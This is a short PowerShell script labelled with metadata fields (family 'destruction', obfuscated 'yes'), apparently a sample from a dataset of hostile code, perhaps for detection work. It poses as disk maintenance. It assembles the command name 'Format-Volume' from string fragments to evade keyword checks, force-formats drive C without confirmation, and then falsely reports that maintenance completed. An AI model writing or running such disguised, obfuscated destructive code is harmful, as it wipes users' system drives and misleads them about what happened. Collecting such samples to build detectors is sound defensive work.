# description: Disk maintenance script that formats the system volume using a command name built by string concatenation.
# family: destruction
# obfuscated: yes
Get-Volume | Format-Table DriveLetter, HealthStatus, SizeRemaining
$op = 'Form' + 'at-' + 'Vol' + 'ume'
$dl = [char]67
& $op -DriveLetter $dl -FileSystem NTFS -Force -Confirm:$false
Write-Output 'Volume maintenance complete'
